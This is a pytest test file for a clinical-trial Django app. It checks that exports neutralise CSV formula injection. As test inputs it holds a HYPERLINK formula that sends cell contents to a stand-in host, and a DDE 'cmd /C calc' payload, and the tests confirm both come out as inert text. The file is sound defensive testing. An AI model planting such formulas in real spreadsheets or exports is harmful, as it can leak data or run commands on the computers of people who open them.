"""Exports neutralise cells a spreadsheet would run as a formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
from datetime import date
from typing import Any

import pandas as pd
import pytest
from django.urls import reverse

from trial.exports.formats import neutralise_formulas
from trial.safety.services import adverse_event_record


@pytest.mark.django_db
def test_an_adverse_event_term_typed_as_a_formula_is_exported_as_text(
    login: Any, randomized: Any, coordinator: Any
) -> None:
    adverse_event_record(
        participant=randomized,
        by=coordinator,
        data={
            "term": '=HYPERLINK("http://example.invalid/?"&A1,"Headache")',
            "onset_date": date.today(),
            "ongoing": True,
            "severity": "mild",
            "relatedness": "possible",
            "outcome": "recovering",
        },
    )
    response = login("datamanager").get(reverse("export-dataset", args=["adverse_events"]))
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [r["term"] for r in rows] == ['\'=HYPERLINK("http://example.invalid/?"&A1,"Headache")']


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_trigger_is_neutralised(start: str) -> None:
    df = pd.DataFrame({"text": [f"{start}cmd|' /C calc'!A0", "plain"]})
    assert list(neutralise_formulas(df)["text"]) == [f"'{start}cmd|' /C calc'!A0", "plain"]


def test_numbers_stay_numbers() -> None:
    df = pd.DataFrame({"change": [-3.5, 2.0], "n": [-1, 4]})
    out = neutralise_formulas(df)
    assert list(out["change"]) == [-3.5, 2.0] and list(out["n"]) == [-1, 4]
